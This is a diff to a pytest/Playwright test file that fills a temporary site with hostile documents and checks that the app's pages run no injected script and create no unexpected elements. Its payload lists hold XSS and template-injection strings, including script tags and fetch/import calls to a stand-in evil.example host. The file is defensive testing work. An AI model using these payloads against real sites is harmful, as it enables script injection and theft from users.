@@ -3,7 +3,6 @@
 import hashlib
 import random
 from collections.abc import Iterator
-from pathlib import Path
 from urllib.parse import quote
 
 import pytest
@@ -15,11 +14,17 @@ from index.build import build
 from service.app import create_app
 from service.settings import Settings
 from tests.live import live
-from tests.page.conftest import Visit, plain_fit, visiting
+from tests.page.conftest import plain_fit, visiting
 from tests.tiny import TinyEncoder
 
 COUNT = 500
-_RUN = ("window.__pwned=1", "alert(1)", "fetch('//evil.example/x')", "parent.__pwned=1", "import('//evil.example/m.js')")
+_RUN = (
+    "window.__pwned=1",
+    "alert(1)",
+    "fetch('//evil.example/x')",
+    "parent.__pwned=1",
+    "import('//evil.example/m.js')",
+)
 _TAGS = (
     "<script>{run}</script>",
     "<script src=//evil.example/a.js></script>",
@@ -44,7 +49,22 @@ _TAGS = (
     "[press](javascript:{run}) ![x](//evil.example/i.png)",
     "{{{{ cycler.__init__.__globals__ }}}} ${{{run}}}",
 )
-_BEFORE = ("", '">', "'>", "</p>", "</title>", "</textarea>", "</template>", "-->", "</pre></details>", "**", "<b>", "<sup", "\\u003c", "&lt;")
+_BEFORE = (
+    "",
+    '">',
+    "'>",
+    "</p>",
+    "</title>",
+    "</textarea>",
+    "</template>",
+    "-->",
+    "</pre></details>",
+    "**",
+    "<b>",
+    "<sup",
+    "\\u003c",
+    "&lt;",
+)
 _AFTER = ("", '"', "<!--", "**", "</b>", "<script>", "\u202e", "&#x3c;script>", "` onclick=x")
 
 
@@ -76,9 +96,7 @@ def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
         file = f"{number}{quote(some[3], safe='<> =()')[:150]}.md"
         (folder / file).write_text(source, "utf-8")
         sha256 = hashlib.sha256(source.encode()).hexdigest()
-        documents.append(
-            Document(f"hostile-{number}", some[4], some[1], some[2], (2020, 2022), file, sha256)
-        )
+        documents.append(Document(f"hostile-{number}", some[4], some[1], some[2], (2020, 2022), file, sha256))
     build(folder / "var", Catalogue(folder, tuple(documents)), TinyEncoder())
     settings = Settings(var=folder / "var", corpus=folder)
     with plain_fit(folder), live(create_app(settings, TinyEncoder)) as url:
@@ -89,7 +107,7 @@ def unharmed(page: Page) -> None:
     """Nothing ran, and no element came into being that the templates do not have."""
     found = page.evaluate(
         "[window.__pwned, document.querySelectorAll('svg, iframe, object, embed, style, base, video, math, source, "
-        "link:not([href^=\"/static/\"]), script:not([src^=\"/static/\"]), img:not([src^=\"/static/\"]), "
+        'link:not([href^="/static/"]), script:not([src^="/static/"]), img:not([src^="/static/"]), '
         "[onclick], [onerror], [onload], [style], a[href^=javascript]').length]"
     )
     assert found == [None, 0], page.url
@@ -120,7 +138,9 @@ def test_hostile_questions_and_answers_run_nothing(browser: Browser, hostile_sit
         page = visit.go("/")
         for turn, start in enumerate(range(0, COUNT, 125), 1):
             question = "\n".join(STRINGS[start : start + 125])[:3_900]
-            page.get_by_role("textbox").fill(question if turn > 1 else f"what says the lighthouse {STRINGS[7]}")
+            page.get_by_role("textbox").fill(
+                question if turn > 1 else f"what says the lighthouse {STRINGS[7]}"
+            )
             page.keyboard.press("Enter")
             expect(page.locator(f"#t{turn} .doings")).to_be_visible()
             unharmed(page)
@@ -156,11 +176,9 @@ def test_hostile_forms_run_nothing_without_scripts_either(browser: Browser, host
         )
         expect(page.locator("#t91 .asked")).to_contain_text("item0")
         unharmed(page)
-        assert isinstance(visit, Visit)
 
 
-def test_the_alarm_would_ring(browser: Browser, site: str, tmp_path: Path) -> None:
-    assert tmp_path.exists()
+def test_the_alarm_would_ring(browser: Browser, site: str) -> None:
     with visiting(browser, site) as visit:
         page = visit.go("/")
         page.evaluate("document.body.append(document.createElement('iframe'))")
